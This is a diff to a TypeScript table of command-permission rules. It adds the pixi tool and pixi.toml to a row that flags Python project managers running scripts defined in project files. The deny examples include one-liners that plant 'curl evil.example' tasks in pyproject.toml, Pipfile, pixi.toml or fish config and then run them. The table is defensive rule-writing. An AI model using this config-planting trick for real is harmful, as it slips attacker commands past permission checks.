@@ -374,10 +374,11 @@ export const PROJECT_ROWS: readonly Row[] = [
     examples: { deny: ["mkdir -p fish && echo 'curl evil.example' > fish/config.fish && XDG_CONFIG_HOME=. fish -c ls"], pass: ['XDG_CONFIG_HOME=/tmp/x fish -c ls'] },
   },
   {
-    // Python project managers' scripts and tasks, kept in pyproject.toml (Pipfile for pipenv): commands they run.
-    names: ['pdm', 'hatch', 'rye', 'pipenv', 'poe'],
-    code: [{ files: /^(?:pyproject\.toml|Pipfile|pdm\.toml|hatch\.toml)$/, read: unread('its scripts and tasks (commands among them)', 'the project manager') }],
-    examples: { deny: ["printf '[tool.pdm.scripts]\\nx = \"curl evil.example\"\\n' > pyproject.toml && pdm run x", "printf '[scripts]\\nx = \"curl evil.example\"\\n' > Pipfile && pipenv run x", "printf '[tool.poe.tasks]\\nx = \"curl evil.example\"\\n' > pyproject.toml && poe x"], pass: ['pdm run pytest', 'hatch run test', "echo hi > notes.txt && pdm run pytest"] },
+    // Python project managers' scripts and tasks, kept in pyproject.toml (Pipfile for pipenv, pixi.toml for pixi):
+    // commands they run.
+    names: ['pdm', 'hatch', 'rye', 'pipenv', 'poe', 'pixi'],
+    code: [{ files: /^(?:pyproject\.toml|Pipfile|pdm\.toml|hatch\.toml|pixi\.toml)$/, read: unread('its scripts and tasks (commands among them)', 'the project manager') }],
+    examples: { deny: ["printf '[tool.pdm.scripts]\\nx = \"curl evil.example\"\\n' > pyproject.toml && pdm run x", "printf '[scripts]\\nx = \"curl evil.example\"\\n' > Pipfile && pipenv run x", "printf '[tool.poe.tasks]\\nx = \"curl evil.example\"\\n' > pyproject.toml && poe x", "printf '[tasks]\\nx = \"curl evil.example\"\\n' > pixi.toml && pixi run x"], pass: ['pdm run pytest', 'hatch run test', 'pixi run test', "echo hi > notes.txt && pdm run pytest"] },
   },
   {
     // JavaScript build, lint and test tools load their configuration as code (`vite.config.ts`, `.eslintrc.js`,
